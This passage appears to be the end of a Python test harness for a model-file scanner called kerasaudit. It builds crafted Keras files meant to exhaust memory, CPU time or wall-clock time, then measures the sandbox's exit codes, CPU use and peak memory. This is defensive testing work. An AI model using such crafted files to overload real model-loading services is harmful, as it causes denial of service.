    path = out / "wide.keras"
    model.save(path)
    return Hostile(
        "sandbox-memory-limit", path, REFUSED, "sandbox", env={"KERASAUDIT_SANDBOX_MEMORY": "16M"}
    )


@hostile("sandbox-cpu-limit")
def _sandbox_cpu(base: Base, out: Path, big: bool) -> Hostile:
    """2,000 layers (under the cap) take ~10 s of CPU to build; the limit is 1 s."""

    def many(config: dict[str, Any]) -> None:
        layers = config["config"]["layers"]
        probs = layer(config, "probs")
        previous = "probs"
        for index in range(2_000):
            clone = json.loads(json.dumps(probs))
            clone["config"]["name"] = clone["name"] = f"d{index}"
            clone["config"]["units"] = 3
            clone.pop("build_config", None)
            clone["inbound_nodes"] = [
                {
                    "args": [
                        {
                            "class_name": "__keras_tensor__",
                            "config": {"shape": [None, 3], "keras_history": [previous, 0, 0]},
                        }
                    ],
                    "kwargs": {},
                }
            ]
            layers.append(clone)
            previous = clone["name"]
        config["config"]["output_layers"] = [[previous, 0, 0]]

    path = with_config(base.keras, out / "slow.keras", many)
    return Hostile("sandbox-cpu-limit", path, REFUSED, "CPU", env={"KERASAUDIT_SANDBOX_CPU": "1"})


@hostile("sandbox-wall-clock-limit")
def _sandbox_wall(base: Base, out: Path, big: bool) -> Hostile:
    path = out / "benign_for_timeout.keras"
    shutil.copyfile(base.keras, path)
    return Hostile(
        "sandbox-wall-clock-limit",
        path,
        REFUSED,
        "did not finish",
        env={"KERASAUDIT_SANDBOX_TIMEOUT": "0.05"},
    )


def build(names: list[str], base: Base, out: Path, big: bool = False) -> list[Hostile]:
    built = []
    for name in names:
        directory = out / name
        directory.mkdir(parents=True, exist_ok=True)
        built.append(CATALOGUE[name](base, directory, big))
    return built


# --------------------------------------------------------------------------------------------
# Measurement: `kerasaudit inspect` as a separate process, per file
# --------------------------------------------------------------------------------------------


def _tree_rss(root: int) -> int:
    """Sum of VmRSS (bytes) over ``root`` and its descendants, from /proc."""
    children: dict[int, list[int]] = {}
    rss: dict[int, int] = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as fh:
                fields = fh.read().rsplit(")", 1)[1].split()
            ppid = int(fields[1])
            with open(f"/proc/{entry}/statm") as fh:
                rss[int(entry)] = int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
        except (OSError, IndexError, ValueError):
            continue
        children.setdefault(ppid, []).append(int(entry))
    total, stack = 0, [root]
    while stack:
        pid = stack.pop()
        total += rss.get(pid, 0)
        stack.extend(children.get(pid, []))
    return total


# Runs a command and reports its exit status, CPU time and peak RSS. A separate small process,
# because a child forked from a large one inherits its RSS high-water mark across exec.
_LAUNCHER = """
import os, subprocess, sys
proc = subprocess.Popen(sys.argv[2:])
_, status, usage = os.wait4(proc.pid, 0)
cpu = usage.ru_utime + usage.ru_stime
open(sys.argv[1], "w").write(f"{os.waitstatus_to_exitcode(status)} {cpu} {usage.ru_maxrss}")
"""


def measure(item: Hostile, timeout: float = 120.0) -> dict[str, Any]:
    """Run ``kerasaudit inspect`` on one file in a fresh TMPDIR; report what it cost: wall
    time, CPU time, peak RSS (``ru_maxrss``: the largest process among it and its children) and the
    peak RSS summed over its process tree, sampled every 20 ms (shared pages counted once per
    process, so an over-estimate)."""
    side = Path(tempfile.mkdtemp(prefix="hostile-measure-"))
    tmp = side / "tmp"
    tmp.mkdir()
    env = {**os.environ, "TMPDIR": str(tmp), **item.env}
    command = [sys.executable, "-m", "kerasaudit", "inspect", str(item.path), *item.args]
    launcher = [sys.executable, "-c", _LAUNCHER, str(side / "usage"), *command]
    start = time.perf_counter()
    with open(side / "stderr", "wb") as err:
        proc = subprocess.Popen(launcher, env=env, stdout=subprocess.DEVNULL, stderr=err)
        peak_tree = 0
        while proc.poll() is None:
            peak_tree = max(peak_tree, _tree_rss(proc.pid))
            if time.perf_counter() - start > timeout:
                proc.kill()
            time.sleep(0.02)
    wall = time.perf_counter() - start
    lines = (side / "stderr").read_text(errors="replace").strip().splitlines()
    code, cpu, maxrss_kb = (side / "usage").read_text().split()
    leftovers = sorted(p.name for p in tmp.iterdir())
    shutil.rmtree(side)
    return {
        "name": item.name,
        "exit": int(code),
        "wall_s": round(wall, 2),
        "cpu_s": round(float(cpu), 2),
        "maxrss_mb": int(maxrss_kb) // 1024,
        "peak_tree_rss_mb": round(peak_tree / 2**20),
        "leftovers": leftovers,
        "marker": bool(item.marker and item.marker.exists()),
        "message": lines[-1] if lines else "",
        "stderr_lines": len(lines),
    }


def sandbox_cost(model: Path, repeats: int) -> None:
    """``kerasaudit inspect MODEL`` with and without the sandbox, alternating (so drifting load
    on a shared machine hits both alike): median wall and CPU seconds, peak RSS."""
    runs: dict[str, list[tuple[float, float, int]]] = {"sandboxed": [], "in-process": []}
    command = [sys.executable, "-m", "kerasaudit", "inspect", str(model), "-q", "-f", "json"]
    for index in range(repeats):
        order = ["sandboxed", "in-process"] if index % 2 == 0 else ["in-process", "sandboxed"]
        for mode in order:
            env = {**os.environ, "KERASAUDIT_SANDBOX": "1" if mode == "sandboxed" else "0"}
            side = Path(tempfile.mkdtemp(prefix="hostile-cost-"))
            launcher = [sys.executable, "-c", _LAUNCHER, str(side / "usage"), *command]
            start = time.perf_counter()
            subprocess.run(launcher, env=env, stdout=subprocess.DEVNULL, check=True)
            wall = time.perf_counter() - start
            code, cpu, maxrss = (side / "usage").read_text().split()
            shutil.rmtree(side)
            assert code == "0", (mode, code)
            runs[mode].append((wall, float(cpu), int(maxrss) // 1024))
    for mode, values in runs.items():
        walls, cpus, rss = zip(*values, strict=True)
        print(
            f"{mode:11} median wall {np.median(walls):.2f} s  CPU {np.median(cpus):.2f} s  "
            f"peak RSS {max(rss)} MB   (walls: {', '.join(f'{w:.2f}' for w in walls)})"
        )
    extra_wall = np.median([a[0] - b[0] for a, b in zip(*runs.values(), strict=True)])
    extra_cpu = np.median([a[1] - b[1] for a, b in zip(*runs.values(), strict=True)])
    print(f"sandbox cost per command: {extra_wall:+.2f} s wall, {extra_cpu:+.2f} s CPU (median)")


def main(argv: list[str]) -> int:
    if "--cost" in argv:
        repeats = int(next((a for a in argv if a.isdigit()), "6"))
        sample = Path(__file__).resolve().parents[1] / "sample_models" / "fmnist_badnets.keras"
        sandbox_cost(sample, repeats)
        return 0
    big = "--big" in argv
    names = [a for a in argv if not a.startswith("--")] or list(CATALOGUE)
    with tempfile.TemporaryDirectory(prefix="hostile-") as tmp:
        out = Path(tmp)
        base = build_base(out / "base")
        items = build(names, base, out / "files", big=big)
        print(
            f"{'class':42} {'exit':>4} {'wall s':>7} {'CPU s':>6} {'maxRSS MB':>9} {'tree MB':>8} "
            "left marker  message"
        )
        for item in items:
            result = measure(item)
            maxrss = result["maxrss_mb"]
            ok = result["exit"] in item.expect and not result["marker"] and not result["leftovers"]
            print(
                f"{item.name:42} {result['exit']:>4} {result['wall_s']:>7} {result['cpu_s']:>6} "
                f"{maxrss:>9} "
                f"{result['peak_tree_rss_mb']:>8} {len(result['leftovers']):>4} "
                f"{'YES' if result['marker'] else 'no':>6}  {'' if ok else 'UNEXPECTED '}"
                f"{result['message'][:110]}",
                flush=True,
            )
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
